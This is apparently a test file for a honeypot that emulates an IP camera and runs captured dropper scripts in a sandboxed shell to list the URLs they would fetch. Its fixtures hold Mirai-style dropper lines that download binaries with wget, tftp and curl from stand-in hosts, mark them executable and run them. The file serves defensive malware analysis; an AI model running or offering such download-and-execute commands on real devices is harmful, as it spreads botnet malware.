// Dropper follow-up: a script is run in a throwaway shell of the persona to learn the URLs it would
// fetch (variables and loops resolved), within limits; non-scripts and oversized scripts are not run.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { commands } from '../shell/commands/index.ts';
import { createShellFactory } from '../shell/shell-session.ts';
import { createCowVfs } from '../shell/vfs/cow-vfs.ts';
import { createDropperFollower, looksLikeShellScript } from './dropper-follow.ts';
import { loadPersonaPack } from '../personas/load-pack.ts';

const camera = await loadPersonaPack(new URL('../../personas/xm-ipc-hi3516d', import.meta.url).pathname);

const limits = { maxFileBytes: 1 << 20, maxSessionWriteBytes: 4 << 20, maxOutputBytes: 1 << 20, maxLoopIterations: 1000, maxRecursion: 16 };
const clock = { now: () => 1_700_000_000_000 };
const shells = createShellFactory({ commands, clock, limits, createVfs: (p) => createCowVfs(p.fs, { maxFileBytes: limits.maxFileBytes, maxSessionWriteBytes: limits.maxSessionWriteBytes, maxFiles: 1000 }, clock) });
const follower = createDropperFollower(shells, { maxDepth: 3, maxUrlsPerScript: 8, maxScriptBytes: 64 * 1024 });
const text = (s: string): Uint8Array => new TextEncoder().encode(s);

test('a bins.sh with a loop over architectures gives one URL per architecture, with the tool used', async () => {
  const script = text('#!/bin/sh\nHOST=198.51.100.7\nfor a in arm arm7 mips mpsl; do\n  cd /tmp; wget http://$HOST/bins/x.$a; chmod 777 x.$a; ./x.$a\ndone\nbusybox tftp -g -r t.sh 198.51.100.8\ncurl -O http://198.51.100.9/c.sh\n');
  assert.deepEqual(await follower.urlsIn(script, camera), [
    { tool: 'wget', url: 'http://198.51.100.7/bins/x.arm' },
    { tool: 'wget', url: 'http://198.51.100.7/bins/x.arm7' },
    { tool: 'wget', url: 'http://198.51.100.7/bins/x.mips' },
    { tool: 'wget', url: 'http://198.51.100.7/bins/x.mpsl' },
    { tool: 'tftp', url: 'tftp://198.51.100.8/t.sh' },
    { tool: 'curl', url: 'http://198.51.100.9/c.sh' },
  ]);
});

test('an endless loop of downloads stops at the URL cap and the loop limit', async () => {
  const script = text('#!/bin/sh\ni=0\nwhile true; do wget http://198.51.100.7/$i; i=$((i+1)); done\n');
  const started = Date.now();
  const urls = await follower.urlsIn(script, camera);
  assert.equal(urls.length, 8);
  assert.ok(Date.now() - started < 5000);
});

test('binaries, text without downloads and oversized scripts are not run', async () => {
  assert.deepEqual(await follower.urlsIn(Uint8Array.of(0x7f, 0x45, 0x4c, 0x46, 1, 1, 1, 0), camera), []);
  assert.deepEqual(await follower.urlsIn(text('hello world\n'), camera), []);
  const huge = text(`#!/bin/sh\nwget http://198.51.100.7/x\n${'#'.repeat(100 * 1024)}\n`);
  assert.deepEqual(await follower.urlsIn(huge, camera), []);
  assert.equal(looksLikeShellScript(text('cd /tmp; wget http://x/y')), true);
  assert.equal(looksLikeShellScript(text('#!/usr/bin/env python3\nprint(1)')), false);
});
